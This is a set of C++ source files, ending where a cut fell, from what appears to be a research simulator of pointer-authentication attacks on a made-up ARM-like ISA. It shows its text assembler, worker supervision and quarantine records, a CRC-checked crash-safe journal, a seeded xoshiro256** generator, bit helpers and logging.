        if (colon != std::string::npos &&
            (space == std::string::npos || colon < space)) {
            asm_.label(line.substr(0, colon));
            line.erase(0, colon + 1);
            continue;
        }
        break;
    }

    // Mnemonic.
    size_t pos = line.find_first_of(" \t");
    const std::string mnem = line.substr(0, pos);
    std::string rest = pos == std::string::npos ? "" : line.substr(pos);

    // Memory-operand bracket form: rewrite "[x1, #8]" into plain
    // comma-separated tokens and remember that brackets were present.
    bool mem_form = false;
    std::string cleaned;
    for (char ch : rest) {
        if (ch == '[') {
            mem_form = true;
        } else if (ch == ']') {
            // drop
        } else {
            cleaned += ch;
        }
    }

    // "lsl #n" suffix for movz/movk: rewrite "..., lsl #16" into a
    // plain immediate operand.
    const size_t lsl = cleaned.find("lsl");
    if ((mnem == "movz" || mnem == "movk") && lsl != std::string::npos)
        cleaned.erase(lsl, 3);

    std::vector<Operand> ops;
    if (cleaned.find_first_not_of(" \t") != std::string::npos) {
        for (const std::string &tok : splitOperands(cleaned)) {
            if (tok.empty())
                err("empty operand");
            const auto op = parseOperand(tok);
            if (!op)
                err("cannot parse operand '" + tok + "'");
            ops.push_back(*op);
        }
    }

    std::string low(mnem);
    for (auto &ch : low)
        ch = char(std::tolower((unsigned char)ch));
    handleInst(low, ops, mem_form);
}

Program
Parser::run()
{
    std::istringstream in(source_);
    std::string line;
    while (std::getline(in, line)) {
        ++lineNo_;
        handleLine(line);
    }
    return asm_.finalize();
}

} // anonymous namespace

Program
assembleText(const std::string &source, isa::Addr base)
{
    Parser parser(source, base);
    return parser.run();
}

} // namespace pacman::asmjit
