/**
 * @file
 * Text-form PARM64 assembler.
 *
 * Accepts an ARM-flavoured syntax, one instruction per line:
 *
 * @code
 *   // comments with '//' or ';'
 *   start:
 *       mov   x0, #0x1234          ; pseudo: expands to movz/movk
 *       addi  x1, x0, #8
 *       add   x1, x0, #8           ; immediate form auto-selected
 *       ldr   x2, [x1, #16]
 *       ldr   x2, [x1, x3]         ; register-offset form
 *       pacia x2, sp
 *       b.ne  start
 *       cbz   x2, start
 *       svc   #3
 *       hlt   #0
 *       .word 0xdeadbeef
 * @endcode
 *
 * Used by the examples and tests; the heavy-duty attack code uses the
 * builder Assembler directly.
 */

#ifndef PACMAN_ASM_TEXTASM_HH
#define PACMAN_ASM_TEXTASM_HH

#include <string>

#include "asm/program.hh"

namespace pacman::asmjit
{

/**
 * Assemble @p source at @p base.
 * Calls fatal() with the line number on any syntax error.
 */
Program assembleText(const std::string &source, isa::Addr base);

} // namespace pacman::asmjit

#endif // PACMAN_ASM_TEXTASM_HH
