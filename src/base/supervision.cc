#include "supervision.hh"

#include <cinttypes>
#include <cstdio>

#include "base/stats.hh"

namespace pacman
{

const char *
workerFaultName(WorkerFaultKind kind)
{
    switch (kind) {
      case WorkerFaultKind::Hang: return "hang";
      case WorkerFaultKind::ReplicaCorrupt: return "replica-corrupt";
      case WorkerFaultKind::TransientFault: return "transient-fault";
      case WorkerFaultKind::PoisonedItem: return "poisoned-item";
      case WorkerFaultKind::EndpointDown: return "endpoint-down";
      case WorkerFaultKind::DispatchExhausted:
        return "dispatch-exhausted";
    }
    return "unknown";
}

std::optional<WorkerFaultKind>
parseWorkerFault(const std::string &name)
{
    for (WorkerFaultKind kind :
         {WorkerFaultKind::Hang, WorkerFaultKind::ReplicaCorrupt,
          WorkerFaultKind::TransientFault,
          WorkerFaultKind::PoisonedItem, WorkerFaultKind::EndpointDown,
          WorkerFaultKind::DispatchExhausted}) {
        if (name == workerFaultName(kind))
            return kind;
    }
    return std::nullopt;
}

std::string
QuarantineRecord::serialize() const
{
    // `detail` is the last field and consumes the rest of the line,
    // so it may contain spaces (but not newlines — it lives inside
    // one journal payload).
    return strprintf(
        "campaign=%s seed=%016" PRIx64 " chunk=%" PRIu64
        " first=%" PRIu64 " last=%" PRIu64 " stream=%016" PRIx64
        " rekey=%s kind=%s detail=%s",
        campaign.c_str(), campaignSeed, chunkIndex, firstItem, lastItem,
        streamSeed,
        hasRekey ? strprintf("%016" PRIx64, rekeySeed).c_str() : "-",
        workerFaultName(kind), detail.c_str());
}

std::optional<QuarantineRecord>
QuarantineRecord::parse(const std::string &line)
{
    QuarantineRecord rec;
    char campaign[32] = {0};
    char rekey[32] = {0};
    char kind[32] = {0};
    int detail_off = -1;
    const int n = std::sscanf(
        line.c_str(),
        "campaign=%31s seed=%" SCNx64 " chunk=%" SCNu64
        " first=%" SCNu64 " last=%" SCNu64 " stream=%" SCNx64
        " rekey=%31s kind=%31s detail=%n",
        campaign, &rec.campaignSeed, &rec.chunkIndex, &rec.firstItem,
        &rec.lastItem, &rec.streamSeed, rekey, kind, &detail_off);
    if (n != 8 || detail_off < 0)
        return std::nullopt;
    rec.campaign = campaign;
    if (std::string(rekey) != "-") {
        rec.hasRekey = true;
        if (std::sscanf(rekey, "%" SCNx64, &rec.rekeySeed) != 1)
            return std::nullopt;
    }
    const auto parsed_kind = parseWorkerFault(kind);
    if (!parsed_kind)
        return std::nullopt;
    rec.kind = *parsed_kind;
    rec.detail = line.substr(size_t(detail_off));
    return rec;
}

} // namespace pacman
