/**
 * @file
 * Durable append-only record journal (crash-recovery substrate for
 * campaign supervision; DESIGN.md §4g).
 *
 * A journal is a sequence of (key, payload) records on disk. Appends
 * are atomic with respect to process death: each record is written in
 * one write(2) call and fsync'd before append() returns, and every
 * record carries a CRC32 over its key and payload. A process killed
 * mid-append leaves at most one torn record at the tail; replay()
 * detects it (short frame or CRC mismatch), reports every record
 * before it, and open() truncates the file back to the last valid
 * frame boundary so the journal is appendable again.
 *
 * Frame format (lengths make keys and payloads binary-safe):
 *
 *   R <crc32-hex> <key-bytes> <payload-bytes>\n
 *   <key><payload>\n
 *
 * The journal knows nothing about what the records mean. Campaigns
 * (src/runner/campaign.cc) store one chunk-completion record per
 * finished chunk keyed by (campaign_seed, chunk_index), plus a meta
 * record binding the file to its campaign configuration — see
 * DESIGN.md §4g for that schema.
 */

#ifndef PACMAN_BASE_JOURNAL_HH
#define PACMAN_BASE_JOURNAL_HH

#include <cstdint>
#include <mutex>
#include <string>
#include <string_view>
#include <vector>

namespace pacman
{

/** An fsync'd append-only record log with torn-tail detection. */
class Journal
{
  public:
    /** One replayed record. */
    struct Record
    {
        std::string key;
        std::string payload;
    };

    /** What replay() found in a journal file. */
    struct Replay
    {
        std::vector<Record> records; //!< every valid record, in order
        uint64_t validBytes = 0;     //!< file offset after the last
                                     //!< valid frame
        bool corruptTail = false;    //!< torn/garbage bytes followed
    };

    Journal() = default;
    ~Journal() { close(); }

    Journal(const Journal &) = delete;
    Journal &operator=(const Journal &) = delete;

    /**
     * Parse @p path without opening it for writing. A missing file
     * replays as empty (not corrupt): a campaign that never journaled
     * a record and one whose journal was lost resume identically —
     * from the start.
     */
    static Replay replay(const std::string &path);

    /**
     * Open @p path for appending, creating it if needed. Existing
     * valid records are returned; a corrupt tail is truncated away
     * (with a warn) so subsequent appends start on a frame boundary.
     * Both the creation and the truncation are made crash-durable
     * before open() returns (file fsync after truncate, directory
     * fsync for the new entry) — a crash immediately afterwards can
     * neither lose the journal nor resurrect the torn tail.
     */
    Replay open(const std::string &path);

    /** True between open() and close(). */
    bool isOpen() const { return fd_ >= 0; }

    const std::string &path() const { return path_; }

    /**
     * Append one record and fsync it. Thread-safe: concurrent
     * campaign workers append whole frames in FIFO order. Must not
     * be called on a closed journal.
     */
    void append(std::string_view key, std::string_view payload);

    /** Records appended through this handle (not replayed ones). */
    uint64_t appends() const { return appends_; }

    /**
     * Chaos-test hook: kill the process with _Exit(137) immediately
     * after the @p n-th successful (fsync'd) append through this
     * handle. 0 disables. The bench/chaos_recovery harness uses this
     * to die at a precise record boundary; combined with replay()'s
     * torn-tail handling it proves resume from any kill point.
     */
    void crashAfterAppends(uint64_t n) { crashAfter_ = n; }

    void close();

    /** CRC32 (IEEE, reflected) over @p data, seedable for chaining. */
    static uint32_t crc32(std::string_view data, uint32_t seed = 0);

  private:
    int fd_ = -1;
    std::string path_;
    std::mutex mu_;
    uint64_t appends_ = 0;
    uint64_t crashAfter_ = 0;
};

} // namespace pacman

#endif // PACMAN_BASE_JOURNAL_HH
