/**
 * @file
 * Deterministic pseudo-random number generation (xoshiro256**).
 *
 * All stochastic behaviour in the simulator (key generation, replacement
 * tie-breaks, timing jitter, noise injection) draws from seeded instances
 * of this generator so experiments are reproducible bit-for-bit.
 */

#ifndef PACMAN_BASE_RANDOM_HH
#define PACMAN_BASE_RANDOM_HH

#include <cstdint>

namespace pacman
{

/**
 * xoshiro256** generator (Blackman & Vigna). Small, fast, and good enough
 * for micro-architectural noise modelling; not cryptographic.
 */
class Random
{
  public:
    /** Construct from a 64-bit seed, expanded via splitmix64. */
    explicit Random(uint64_t seed = 0x9e3779b97f4a7c15ull);

    /** Next raw 64-bit value. */
    uint64_t next();

    /** Uniform value in [0, bound). @p bound must be non-zero. */
    uint64_t next(uint64_t bound);

    /** Uniform value in [lo, hi] inclusive. */
    int64_t range(int64_t lo, int64_t hi);

    /** Uniform double in [0, 1). */
    double nextDouble();

    /** Bernoulli trial with probability @p p of true. */
    bool chance(double p);

    /**
     * Approximately normal value via the sum of 4 uniforms (Irwin-Hall),
     * scaled to the requested mean and standard deviation. Cheap and
     * adequate for timing-jitter modelling.
     */
    double gaussian(double mean, double stddev);

  private:
    uint64_t s[4];
};

} // namespace pacman

#endif // PACMAN_BASE_RANDOM_HH
