/**
 * @file
 * Deterministic pseudo-random number generation (xoshiro256**).
 *
 * All stochastic behaviour in the simulator (key generation, replacement
 * tie-breaks, timing jitter, noise injection) draws from seeded instances
 * of this generator so experiments are reproducible bit-for-bit.
 */

#ifndef PACMAN_BASE_RANDOM_HH
#define PACMAN_BASE_RANDOM_HH

#include <cstdint>

namespace pacman
{

/**
 * xoshiro256** generator (Blackman & Vigna). Small, fast, and good enough
 * for micro-architectural noise modelling; not cryptographic.
 */
class Random
{
  public:
    /** Construct from a 64-bit seed, expanded via splitmix64. */
    explicit Random(uint64_t seed = 0x9e3779b97f4a7c15ull);

    /**
     * Derive the seed for an independent stream from (@p seed,
     * @p stream) via two splitmix64 mixing rounds. Distinct streams
     * of the same base seed are decorrelated even for adjacent
     * stream indices; the mapping is a pure function, so parallel
     * campaigns can hand stream `i` to whichever worker picks up
     * work item `i` and stay bit-reproducible.
     */
    static uint64_t deriveSeed(uint64_t seed, uint64_t stream);

    /**
     * A new generator for stream @p stream of this generator's seed.
     * Use this instead of constructing several default-seeded
     * `Random` instances: those all share one seed and produce
     * perfectly correlated sequences.
     */
    Random fork(uint64_t stream) const;

    /** The seed this generator was constructed from. */
    uint64_t seed() const { return seed_; }

    /**
     * Complete generator state: the construction seed plus the
     * xoshiro256** word vector. Capturing it mid-stream and feeding it
     * back through setState() resumes the sequence exactly where it
     * left off, which is what lets Machine::restore() rewind every RNG
     * stream bit-identically.
     */
    struct State
    {
        uint64_t seed = 0;
        uint64_t s[4] = {0, 0, 0, 0};
    };

    /** Capture the current stream position. */
    State state() const;

    /** Rewind (or fast-forward) to a previously captured position. */
    void setState(const State &st);

    /** Next raw 64-bit value. */
    uint64_t next();

    /** Uniform value in [0, bound). @p bound must be non-zero. */
    uint64_t next(uint64_t bound);

    /** Uniform value in [lo, hi] inclusive. */
    int64_t range(int64_t lo, int64_t hi);

    /** Uniform double in [0, 1). */
    double nextDouble();

    /** Bernoulli trial with probability @p p of true. */
    bool chance(double p);

    /**
     * Approximately normal value via the sum of 4 uniforms (Irwin-Hall),
     * scaled to the requested mean and standard deviation. Cheap and
     * adequate for timing-jitter modelling.
     */
    double gaussian(double mean, double stddev);

  private:
    uint64_t seed_;
    uint64_t s[4];
};

} // namespace pacman

#endif // PACMAN_BASE_RANDOM_HH
