/**
 * @file
 * Supervision vocabulary for long-lived campaign workers
 * (DESIGN.md §4g): the structured error taxonomy a watchdog uses to
 * classify overruns, per-item execution budgets, recovery-ladder
 * counters, and the quarantine record that preserves a poisoned work
 * item's seed/fault context for offline reproduction.
 *
 * Pure data at the base layer — the runner's Worker interprets these,
 * and bench/chaos_recovery proves every classification path. FIPAC
 * (arXiv 2104.14993) motivates the shape: cheap state-checksum fault
 * *detection* between recovery points, with the expensive response
 * (re-provision, quarantine) reserved for confirmed corruption.
 */

#ifndef PACMAN_BASE_SUPERVISION_HH
#define PACMAN_BASE_SUPERVISION_HH

#include <cstdint>
#include <optional>
#include <string>

namespace pacman
{

/**
 * Why a supervised work item failed. The ladder's classification is
 * behavioural, not declarative: an overrun is a Hang when a budget
 * expired, a TransientFault when the same item succeeds after a
 * checkpoint-restore retry, ReplicaCorrupt when the restored replica
 * fails its state-fingerprint check, and a PoisonedItem when the item
 * still fails on a freshly provisioned replica — at which point it is
 * quarantined rather than retried forever.
 */
enum class WorkerFaultKind : uint8_t
{
    Hang,           //!< guest-step or host-deadline budget exhausted
    ReplicaCorrupt, //!< state fingerprint diverged from provisioning
    TransientFault, //!< cleared by a restore-and-retry
    PoisonedItem,   //!< fails even on a fresh replica; quarantined
    EndpointDown,   //!< one dispatch endpoint unreachable/timed out
    DispatchExhausted, //!< every endpoint and retry budget spent
};

/** Stable lower-case name (used in journals/quarantine files). */
const char *workerFaultName(WorkerFaultKind kind);

/** Parse workerFaultName()'s output back. */
std::optional<WorkerFaultKind> parseWorkerFault(const std::string &name);

/**
 * The error a supervised execution throws to abandon the current
 * attempt. Thrown host-side from between-step fault opportunities
 * (never mid-guest-instruction), so unwinding is safe; the recovery
 * ladder restores or re-provisions the replica before any retry, so
 * no attack-stack invariant has to survive the unwind.
 */
struct WorkerError
{
    WorkerFaultKind kind;
    std::string detail;
};

/**
 * Per-item execution budgets. The guest-cycle budget is deterministic
 * (simulated cycles elapse identically on every host and at every
 * --jobs count), so budget-triggered classifications — and the
 * quarantines they escalate to — are part of the campaign's
 * bit-identical output. The host deadline is a wall-clock backstop
 * for bugs the simulation cannot see (a wedged host thread); its
 * firings are inherently nondeterministic, which is safe because a
 * restore-retry of a healthy item reproduces the item's pure result.
 */
struct ItemBudget
{
    /** Max simulated cycles one item may consume past its beginItem
     *  point; 0 = unlimited. Checked at every fault opportunity. */
    uint64_t maxGuestCycles = 0;

    /** Max host wall-clock seconds per attempt; 0 = none. */
    double hostDeadlineSeconds = 0.0;
};

/** Recovery-ladder counters; mergeable per chunk/worker. */
struct RecoveryStats
{
    uint64_t hangs = 0;            //!< budget-exhaustion aborts
    uint64_t transientFaults = 0;  //!< cleared by restore-retry
    uint64_t replicaCorruptions = 0; //!< fingerprint mismatches
    uint64_t restoreRetries = 0;   //!< rung-1 attempts
    uint64_t reprovisions = 0;     //!< rung-2 full rebuilds
    uint64_t fingerprintChecks = 0; //!< integrity verifications run
    uint64_t quarantines = 0;      //!< items given up on

    uint64_t
    total() const
    {
        return hangs + transientFaults + replicaCorruptions +
               restoreRetries + reprovisions + quarantines;
    }

    void
    merge(const RecoveryStats &other)
    {
        hangs += other.hangs;
        transientFaults += other.transientFaults;
        replicaCorruptions += other.replicaCorruptions;
        restoreRetries += other.restoreRetries;
        reprovisions += other.reprovisions;
        fingerprintChecks += other.fingerprintChecks;
        quarantines += other.quarantines;
    }
};

/**
 * Remote-dispatch counters: how many chunks travelled, how often the
 * dispatcher had to fail over to another endpoint, and why. Purely
 * operational — which endpoint served a chunk is a wall-clock
 * accident, so none of these are ever part of a campaign fingerprint
 * (the chunk payloads themselves are endpoint-independent).
 */
struct DispatchStats
{
    uint64_t dispatched = 0;    //!< chunks served successfully
    uint64_t retries = 0;       //!< redispatch attempts after failure
    uint64_t failovers = 0;     //!< chunks completed on a non-first endpoint
    uint64_t timeouts = 0;      //!< attempts abandoned by the host deadline
    uint64_t wireErrors = 0;    //!< torn/corrupt connections
    uint64_t busyExhaustions = 0; //!< BUSY backoff budgets spent
    uint64_t breakerOpens = 0;  //!< circuit breakers tripped open
    uint64_t probes = 0;        //!< half-open PING probes sent
    uint64_t probeFailures = 0; //!< probes that kept a breaker open

    uint64_t
    faults() const
    {
        return timeouts + wireErrors + busyExhaustions;
    }

    void
    merge(const DispatchStats &other)
    {
        dispatched += other.dispatched;
        retries += other.retries;
        failovers += other.failovers;
        timeouts += other.timeouts;
        wireErrors += other.wireErrors;
        busyExhaustions += other.busyExhaustions;
        breakerOpens += other.breakerOpens;
        probes += other.probes;
        probeFailures += other.probeFailures;
    }
};

/**
 * Everything needed to re-run a quarantined work item standalone,
 * away from its campaign: the campaign identity and seeds, the item
 * range the failing chunk covered, and the classified failure. The
 * replica configuration itself is not serialized — reproduction
 * supplies the same campaign config and the record re-derives every
 * RNG stream from the recorded seeds, which
 * tests/runner/test_supervision.cc proves reproduces the identical
 * failure.
 */
struct QuarantineRecord
{
    std::string campaign;      //!< "bruteforce" | "accuracy"
    uint64_t campaignSeed = 0; //!< the campaign's seed
    uint64_t chunkIndex = 0;   //!< failing chunk
    uint64_t firstItem = 0;    //!< item range the chunk covered
    uint64_t lastItem = 0;
    uint64_t streamSeed = 0;   //!< per-item RNG stream actually used
    uint64_t rekeySeed = 0;    //!< per-trial key stream (accuracy)
    bool hasRekey = false;
    WorkerFaultKind kind = WorkerFaultKind::PoisonedItem;
    std::string detail;        //!< human-readable failure context

    /** One-line serialization (journal/quarantine-file payload). */
    std::string serialize() const;

    /** Parse serialize()'s output; nullopt on malformed input. */
    static std::optional<QuarantineRecord> parse(const std::string &line);
};

} // namespace pacman

#endif // PACMAN_BASE_SUPERVISION_HH
