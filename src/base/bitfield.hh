/**
 * @file
 * Bit-manipulation helpers used throughout the encoder/decoder, the
 * pointer-authentication bit layout, and the cache/TLB indexing logic.
 */

#ifndef PACMAN_BASE_BITFIELD_HH
#define PACMAN_BASE_BITFIELD_HH

#include <cstdint>
#include <type_traits>

namespace pacman
{

/**
 * Generate a mask of @p nbits ones in the low bits.
 * mask(0) == 0; mask(64) == all ones.
 */
constexpr uint64_t
mask(unsigned nbits)
{
    return nbits >= 64 ? ~uint64_t(0) : (uint64_t(1) << nbits) - 1;
}

/** Extract bits [hi:lo] (inclusive) of @p val, right-justified. */
constexpr uint64_t
bits(uint64_t val, unsigned hi, unsigned lo)
{
    return (val >> lo) & mask(hi - lo + 1);
}

/** Extract bit @p bit of @p val. */
constexpr uint64_t
bits(uint64_t val, unsigned bit)
{
    return (val >> bit) & 1;
}

/** Return @p val with bits [hi:lo] replaced by the low bits of @p ins. */
constexpr uint64_t
insertBits(uint64_t val, unsigned hi, unsigned lo, uint64_t ins)
{
    const uint64_t m = mask(hi - lo + 1) << lo;
    return (val & ~m) | ((ins << lo) & m);
}

/** Sign-extend the low @p nbits of @p val to 64 bits. */
constexpr int64_t
sext(uint64_t val, unsigned nbits)
{
    const unsigned shift = 64 - nbits;
    return int64_t(val << shift) >> shift;
}

/** True if @p val fits in @p nbits as a signed two's-complement value. */
constexpr bool
fitsSigned(int64_t val, unsigned nbits)
{
    const int64_t lim = int64_t(1) << (nbits - 1);
    return val >= -lim && val < lim;
}

/** True if @p val fits in @p nbits as an unsigned value. */
constexpr bool
fitsUnsigned(uint64_t val, unsigned nbits)
{
    return nbits >= 64 || val < (uint64_t(1) << nbits);
}

/** True if @p val is a power of two (and non-zero). */
constexpr bool
isPowerOf2(uint64_t val)
{
    return val != 0 && (val & (val - 1)) == 0;
}

/** Integer log2 for powers of two. */
constexpr unsigned
floorLog2(uint64_t val)
{
    unsigned l = 0;
    while (val > 1) {
        val >>= 1;
        ++l;
    }
    return l;
}

/** Round @p val up to the next multiple of power-of-two @p align. */
constexpr uint64_t
roundUp(uint64_t val, uint64_t align)
{
    return (val + align - 1) & ~(align - 1);
}

/** Round @p val down to a multiple of power-of-two @p align. */
constexpr uint64_t
roundDown(uint64_t val, uint64_t align)
{
    return val & ~(align - 1);
}

} // namespace pacman

#endif // PACMAN_BASE_BITFIELD_HH
