#include "random.hh"

namespace pacman
{

namespace
{

/** splitmix64 step, used to expand the seed into generator state. */
uint64_t
splitmix64(uint64_t &x)
{
    uint64_t z = (x += 0x9e3779b97f4a7c15ull);
    z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ull;
    z = (z ^ (z >> 27)) * 0x94d049bb133111ebull;
    return z ^ (z >> 31);
}

/** splitmix64 output mixing function (no counter increment). */
uint64_t
mix64(uint64_t z)
{
    z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ull;
    z = (z ^ (z >> 27)) * 0x94d049bb133111ebull;
    return z ^ (z >> 31);
}

uint64_t
rotl(uint64_t x, int k)
{
    return (x << k) | (x >> (64 - k));
}

} // anonymous namespace

Random::Random(uint64_t seed) : seed_(seed)
{
    for (auto &word : s)
        word = splitmix64(seed);
}

uint64_t
Random::deriveSeed(uint64_t seed, uint64_t stream)
{
    // Mix the base seed first so that nearby (seed, stream) pairs do
    // not collide, then fold the stream index in with a second round.
    uint64_t z = seed + 0x9e3779b97f4a7c15ull;
    z = mix64(z);
    z += stream * 0xbf58476d1ce4e5b9ull + 0x94d049bb133111ebull;
    return mix64(z);
}

Random
Random::fork(uint64_t stream) const
{
    return Random(deriveSeed(seed_, stream));
}

Random::State
Random::state() const
{
    State st;
    st.seed = seed_;
    for (int i = 0; i < 4; ++i)
        st.s[i] = s[i];
    return st;
}

void
Random::setState(const State &st)
{
    seed_ = st.seed;
    for (int i = 0; i < 4; ++i)
        s[i] = st.s[i];
}

uint64_t
Random::next()
{
    const uint64_t result = rotl(s[1] * 5, 7) * 9;
    const uint64_t t = s[1] << 17;

    s[2] ^= s[0];
    s[3] ^= s[1];
    s[1] ^= s[2];
    s[0] ^= s[3];
    s[2] ^= t;
    s[3] = rotl(s[3], 45);

    return result;
}

uint64_t
Random::next(uint64_t bound)
{
    // Rejection sampling to avoid modulo bias.
    const uint64_t limit = ~uint64_t(0) - (~uint64_t(0) % bound);
    uint64_t v;
    do {
        v = next();
    } while (v >= limit);
    return v % bound;
}

int64_t
Random::range(int64_t lo, int64_t hi)
{
    return lo + int64_t(next(uint64_t(hi - lo) + 1));
}

double
Random::nextDouble()
{
    return double(next() >> 11) * (1.0 / 9007199254740992.0);
}

bool
Random::chance(double p)
{
    return nextDouble() < p;
}

double
Random::gaussian(double mean, double stddev)
{
    // Irwin-Hall with n = 4: variance of the sum is 4/12, so scale by
    // sqrt(3) to get a unit-variance approximately normal variate.
    double sum = 0.0;
    for (int i = 0; i < 4; ++i)
        sum += nextDouble();
    const double unit = (sum - 2.0) * 1.7320508075688772;
    return mean + stddev * unit;
}

} // namespace pacman
