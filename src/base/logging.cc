#include "logging.hh"

#include <cstdarg>
#include <mutex>
#include <string>

namespace pacman
{

namespace
{
LogLevel globalLevel = LogLevel::Normal;

/** Serialises emission so concurrent workers cannot interleave the
 *  prefix, body, and newline of different messages. */
std::mutex &
logMutex()
{
    static std::mutex mutex;
    return mutex;
}
} // anonymous namespace

LogLevel
logLevel()
{
    return globalLevel;
}

void
setLogLevel(LogLevel level)
{
    globalLevel = level;
}

void
logVprintf(const char *prefix, const char *fmt, std::va_list ap)
{
    // Format the whole message up front and emit it as one write:
    // a prefix/body/newline triple written piecewise interleaves
    // when campaign workers log concurrently.
    std::va_list ap2;
    va_copy(ap2, ap);
    const int len = std::vsnprintf(nullptr, 0, fmt, ap2);
    va_end(ap2);

    std::string line(prefix);
    if (len > 0) {
        const size_t body = line.size();
        line.resize(body + size_t(len) + 1);
        std::vsnprintf(line.data() + body, size_t(len) + 1, fmt, ap);
        line.resize(body + size_t(len));
    }
    line.push_back('\n');

    const std::lock_guard<std::mutex> lock(logMutex());
    std::fwrite(line.data(), 1, line.size(), stderr);
    std::fflush(stderr);
}

void
panic(const char *fmt, ...)
{
    std::va_list ap;
    va_start(ap, fmt);
    logVprintf("panic: ", fmt, ap);
    va_end(ap);
    std::abort();
}

void
fatal(const char *fmt, ...)
{
    std::va_list ap;
    va_start(ap, fmt);
    logVprintf("fatal: ", fmt, ap);
    va_end(ap);
    std::exit(1);
}

void
warn(const char *fmt, ...)
{
    if (globalLevel == LogLevel::Quiet)
        return;
    std::va_list ap;
    va_start(ap, fmt);
    logVprintf("warn: ", fmt, ap);
    va_end(ap);
}

void
inform(const char *fmt, ...)
{
    if (globalLevel == LogLevel::Quiet)
        return;
    std::va_list ap;
    va_start(ap, fmt);
    logVprintf("info: ", fmt, ap);
    va_end(ap);
}

void
debugLog(const char *fmt, ...)
{
    if (globalLevel != LogLevel::Debug)
        return;
    std::va_list ap;
    va_start(ap, fmt);
    logVprintf("debug: ", fmt, ap);
    va_end(ap);
}

} // namespace pacman
