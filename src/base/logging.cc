#include "logging.hh"

#include <cstdarg>

namespace pacman
{

namespace
{
LogLevel globalLevel = LogLevel::Normal;
} // anonymous namespace

LogLevel
logLevel()
{
    return globalLevel;
}

void
setLogLevel(LogLevel level)
{
    globalLevel = level;
}

void
logVprintf(const char *prefix, const char *fmt, std::va_list ap)
{
    std::fputs(prefix, stderr);
    std::vfprintf(stderr, fmt, ap);
    std::fputc('\n', stderr);
}

void
panic(const char *fmt, ...)
{
    std::va_list ap;
    va_start(ap, fmt);
    logVprintf("panic: ", fmt, ap);
    va_end(ap);
    std::abort();
}

void
fatal(const char *fmt, ...)
{
    std::va_list ap;
    va_start(ap, fmt);
    logVprintf("fatal: ", fmt, ap);
    va_end(ap);
    std::exit(1);
}

void
warn(const char *fmt, ...)
{
    if (globalLevel == LogLevel::Quiet)
        return;
    std::va_list ap;
    va_start(ap, fmt);
    logVprintf("warn: ", fmt, ap);
    va_end(ap);
}

void
inform(const char *fmt, ...)
{
    if (globalLevel == LogLevel::Quiet)
        return;
    std::va_list ap;
    va_start(ap, fmt);
    logVprintf("info: ", fmt, ap);
    va_end(ap);
}

void
debugLog(const char *fmt, ...)
{
    if (globalLevel != LogLevel::Debug)
        return;
    std::va_list ap;
    va_start(ap, fmt);
    logVprintf("debug: ", fmt, ap);
    va_end(ap);
}

} // namespace pacman
