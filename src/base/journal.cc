#include "journal.hh"

#include <fcntl.h>
#include <unistd.h>

#include <cerrno>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <sstream>

#include "base/logging.hh"
#include "base/stats.hh"

namespace pacman
{

namespace
{

/** Build the CRC32 (IEEE, reflected polynomial) lookup table once. */
const uint32_t *
crcTable()
{
    static uint32_t table[256];
    static const bool built = [] {
        for (uint32_t i = 0; i < 256; ++i) {
            uint32_t c = i;
            for (int k = 0; k < 8; ++k)
                c = (c & 1) ? 0xEDB88320u ^ (c >> 1) : c >> 1;
            table[i] = c;
        }
        return true;
    }();
    (void)built;
    return table;
}

/** One on-disk frame for (key, payload). */
std::string
frame(std::string_view key, std::string_view payload)
{
    std::string body;
    body.reserve(key.size() + payload.size());
    body.append(key);
    body.append(payload);
    std::string out = strprintf("R %08x %zu %zu\n", Journal::crc32(body),
                                key.size(), payload.size());
    out += body;
    out += '\n';
    return out;
}

/**
 * Parse one frame at @p pos of @p data. Returns true and advances
 * @p pos past the frame on success; false on a short, malformed, or
 * CRC-failing frame (the torn tail).
 */
bool
parseFrame(const std::string &data, size_t &pos, Journal::Record *rec)
{
    const size_t eol = data.find('\n', pos);
    if (eol == std::string::npos)
        return false;
    const std::string header = data.substr(pos, eol - pos);
    unsigned long crc = 0;
    size_t key_len = 0, payload_len = 0;
    if (std::sscanf(header.c_str(), "R %lx %zu %zu", &crc, &key_len,
                    &payload_len) != 3) {
        return false;
    }
    const size_t body_start = eol + 1;
    const size_t body_len = key_len + payload_len;
    // Frame ends with the body plus a trailing newline.
    if (body_start + body_len + 1 > data.size())
        return false;
    if (data[body_start + body_len] != '\n')
        return false;
    const std::string_view body(data.data() + body_start, body_len);
    if (Journal::crc32(body) != uint32_t(crc))
        return false;
    rec->key.assign(body.substr(0, key_len));
    rec->payload.assign(body.substr(key_len));
    pos = body_start + body_len + 1;
    return true;
}

/**
 * fsync the directory holding @p path. Creating a file (or shrinking
 * it back to a frame boundary) only becomes crash-durable once the
 * containing directory's entry is on disk too: POSIX lets a crash
 * after open(O_CREAT) lose the file entirely even though the data
 * blocks were fsync'd through the file descriptor.
 */
void
fsyncDirOf(const std::string &path)
{
    const size_t slash = path.find_last_of('/');
    const std::string dir =
        slash == std::string::npos ? "." : path.substr(0, slash + 1);
    const int dfd = ::open(dir.c_str(), O_RDONLY | O_DIRECTORY);
    if (dfd < 0) {
        fatal("journal %s: cannot open directory %s for fsync: %s",
              path.c_str(), dir.c_str(), std::strerror(errno));
    }
    while (::fsync(dfd) != 0) {
        if (errno == EINTR)
            continue;
        // Some filesystems refuse fsync on directory fds (EINVAL);
        // treat only real I/O failures as fatal.
        if (errno == EINVAL)
            break;
        ::close(dfd);
        fatal("journal %s: directory fsync failed: %s", path.c_str(),
              std::strerror(errno));
    }
    ::close(dfd);
}

} // anonymous namespace

uint32_t
Journal::crc32(std::string_view data, uint32_t seed)
{
    const uint32_t *table = crcTable();
    uint32_t c = seed ^ 0xFFFFFFFFu;
    for (unsigned char byte : data)
        c = table[(c ^ byte) & 0xFF] ^ (c >> 8);
    return c ^ 0xFFFFFFFFu;
}

Journal::Replay
Journal::replay(const std::string &path)
{
    Replay result;
    std::ifstream in(path, std::ios::binary);
    if (!in.is_open())
        return result; // missing journal == empty journal
    std::ostringstream buf;
    buf << in.rdbuf();
    const std::string data = buf.str();

    size_t pos = 0;
    Record rec;
    while (pos < data.size() && parseFrame(data, pos, &rec)) {
        result.records.push_back(rec);
        result.validBytes = pos;
    }
    result.corruptTail = pos < data.size() || result.validBytes < data.size();
    return result;
}

Journal::Replay
Journal::open(const std::string &path)
{
    PACMAN_ASSERT(fd_ < 0, "journal already open (%s)", path_.c_str());
    Replay result = replay(path);
    fd_ = ::open(path.c_str(), O_WRONLY | O_CREAT | O_APPEND, 0644);
    if (fd_ < 0) {
